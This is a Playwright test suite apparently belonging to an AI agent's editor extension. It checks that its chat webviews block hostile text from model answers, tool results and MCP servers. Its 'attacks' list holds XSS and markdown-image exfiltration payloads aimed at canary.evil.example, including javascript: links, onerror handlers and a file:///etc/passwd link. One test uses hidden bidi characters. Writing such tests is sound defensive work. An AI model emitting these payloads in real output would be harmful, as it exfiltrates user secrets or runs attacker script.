import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import type { AgentEvent } from '../../../src/protocol/agentEvents.js';
import { buildViews, launch, openView, type View } from '../../support/webviews/harness.js';
import { askTurn, editApproval, editEvents, runningTurn, state } from '../../support/webviews/recorded.js';

const canary = 'https://canary.evil.example';

/** Attacks 16 and 17: what a model may write to send data out or to run code (Cursor CVE-2025-54132 and its like). */
const attacks = [
  `![x](${canary}/image?secret=1)`, `![x](//canary.evil.example/i)`, `[![x](${canary}/i)](${canary}/l)`, `![x][ref]\n\n[ref]: ${canary}/ref`,
  `<img src="${canary}/html" onerror="window.owned=1">`, '<img src=x onerror=window.owned=1>', '<script>window.owned=1</script>', `<iframe src="${canary}/f"></iframe>`,
  `<style>@import url(${canary}/css);</style>`, `<link rel=stylesheet href=${canary}/css>`, '<svg onload=window.owned=1>', `<a href="javascript:window.owned=1">click</a>`,
  '[click](javascript:window.owned=1)', '[click](JaVaScRiPt:window.owned=1)', '[click](data:text/html,<script>window.owned=1</script>)', '[click](command:workbench.action.terminal.new)',
  '[click](vscode://x/y)', '[click](file:///etc/passwd)', '<javascript:window.owned=1>', '[click](&#106;avascript:window.owned=1)', '[click](java&#10;script:window.owned=1)',
  `\`\`\`mermaid\ngraph TD; A-->B["<img src='${canary}/mermaid'>"]\n\`\`\``, `\`\`\`html\n<img src="${canary}/code" onerror="window.owned=1">\n</span><script>window.owned=1</script>\n\`\`\``,
  '```"><img src=x onerror=window.owned=1>\ncode\n```', `| a |\n|---|\n| <img src=${canary}/t> |`, '`<img src=x onerror=window.owned=1>`', `${canary}/<img src=x onerror=window.owned=1>`,
];

suite('webviews in Chromium: hostile text', () => {
  let browser: Browser;
  let view: View<'chat'>;
  suiteSetup(async function () {
    this.timeout(60_000);
    await buildViews();
    browser = await launch();
  });
  suiteTeardown(() => browser.close());
  setup(async () => { view = await openView(browser, 'chat'); });
  teardown(() => view.close());

  const owned = (): Promise<unknown> => view.page.evaluate(() => (window as unknown as { owned?: number }).owned);
  const unharmed = async (): Promise<void> => {
    await view.page.waitForTimeout(150);
    assert.equal(await owned(), undefined);
    assert.deepEqual(view.foreignRequests, []);
    assert.deepEqual(view.errors, [], 'the policy had nothing to block: nothing was tried');
    assert.equal(await view.page.locator('img, iframe, object, embed, style, form, [href]:not(link), [src]:not(script), [onerror], [onload], [onclick]').count(), 0);
    assert.equal(view.page.url(), 'https://webview.loupe.test/index.html');
  };

  test('in an answer, streamed and finished: no request, no script, no element of its own', async () => {
    for (const attack of attacks) {
      await view.send(state(), ...runningTurn('t', attack, [{ type: 'hopStarted', hop: 1, atMs: 0 }]));
      for (const character of attack.match(/[^]{1,7}/g) ?? []) await view.send({ type: 'event', turnId: 't', event: { type: 'textDelta', hop: 1, text: character } });
      await view.send({ type: 'event', turnId: 't', event: { type: 'turnFinished', at: 0, atMs: 1, answer: attack, partial: false } });
      // The streamed text is drawn by frames: links of a half answer go when the whole one is drawn.
      await view.page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(resolve)))));
      for (const link of await view.page.locator('.markdown a, .dead-link').all()) await link.click();
    }
    await unharmed();
    const sent = view.sent.filter(({ type }) => !['ready', 'draft'].includes(type));
    for (const message of sent) assert.ok(message.type === 'openExternal' && message.url.startsWith('https://canary.evil.example/'), JSON.stringify(message));
  });

  test('in every other field that others write', async () => {
    const html = `<img src="${canary}/x" onerror="window.owned=1"><script>window.owned=1</script>`;
    const call = { id: 'c', name: html, arguments: { path: html, pattern: html } };
    const events: AgentEvent[] = [
      { type: 'toolStarted', hop: 1, atMs: 1, call, class: 'read', argumentBytes: 1 },
      { type: 'toolFinished', hop: 1, atMs: 2, callId: 'c', name: html, outcome: 'error', toolMs: 1, approvalMs: 0, resultBytes: 1, truncated: false, summary: html, result: html },
      { type: 'gate', atMs: 3, gate: 'error', reason: html, spent: { steps: 1, tokens: 1, wallMs: 1 }, error: { code: 'internal', message: html, next: html, cause: html } },
    ];
    await view.send(
      state({ conversation: { id: 'conv', title: html, createdAt: 0, updatedAt: 0, turns: [{ ...askTurn, question: html, attachments: [{ kind: 'file', path: html }], events }] }, history: [{ id: 'x', title: html, updatedAt: 0, turns: 1 }], model: { state: 'failed', label: html, detail: html } }),
      { type: 'notice', level: 'error', text: html }, { type: 'showHistory' },
      ...runningTurn('t2', html, editEvents('t2', { ...editApproval, warning: html, kind: 'edit', edit: { path: html, kind: 'create', before: '', after: html, beforeHash: '' } })),
    );
    for (const summary of await view.page.locator('.tool-summary:enabled').all()) await summary.click();
    await unharmed();
    assert.equal(await view.page.locator('.card .path').innerText(), html);
  });

  test('in the question about a tool of an MCP server', async () => {
    const html = `<img src="${canary}/x" onerror="window.owned=1"><script>window.owned=1</script>`;
    await view.send(state(), ...runningTurn('t2', 'q', editEvents('t2', { id: 'a', kind: 'tool', server: html, tool: html, identity: html, arguments: JSON.stringify({ [html]: html }, undefined, 2), warning: html })),
      { type: 'event', turnId: 't2', event: { type: 'serverStarted', hop: 1, atMs: 3, server: html, coldMs: 1, problem: html } });
    await view.page.getByLabel('The arguments, in full').waitFor();
    await unharmed();
    assert.equal(await view.page.locator('.card-title').innerText(), `Call ${html}?`);
  });

  test('hidden characters in a path and in added lines are marked, and said', async () => {
    const after = 'const access = "user\u202e \u2066// admin\u2069 \u2066";\nok\u200b\n';
    await view.send(state(), ...runningTurn('t2', 'q', editEvents('t2', { id: 'a', kind: 'edit', edit: { path: 'src/a\u202ets.js', kind: 'create', before: '', after, beforeHash: '' } })));
    await view.page.getByRole('note').waitFor();
    assert.match(await view.page.getByRole('note').innerText(), /cannot be seen/);
    assert.deepEqual(await view.page.locator('.card mark').allInnerTexts(), ['U+202E', 'U+202E', 'U+2066', 'U+2069', 'U+2066', 'U+200B']);
    assert.doesNotMatch(await view.page.locator('.card').innerText(), /[\u202e\u2066\u2069\u200b]/);
  });

  test('the policy stops what would come past the rest', async () => {
    await view.send(state());
    const blocked = await view.page.evaluate(async (to) => {
      const script = document.createElement('script');
      script.textContent = 'window.owned = 1';
      document.body.append(script);
      const image = new Image();
      const failed = new Promise<boolean>((resolve) => { image.onerror = () => resolve(true); image.onload = () => resolve(false); });
      image.src = `${to}/policy`;
      const style = document.createElement('style');
      style.textContent = 'body { --taken: 1 }';
      document.body.append(style);
      const fetched = await fetch(`${to}/fetch`).then(() => false, () => true);
      return [await failed, fetched, getComputedStyle(document.body).getPropertyValue('--taken')];
    }, canary);
    assert.deepEqual(blocked, [true, true, '']);
    assert.equal(await owned(), undefined);
    assert.deepEqual(view.foreignRequests, []);
    assert.ok(view.errors.length >= 4);
  });
});
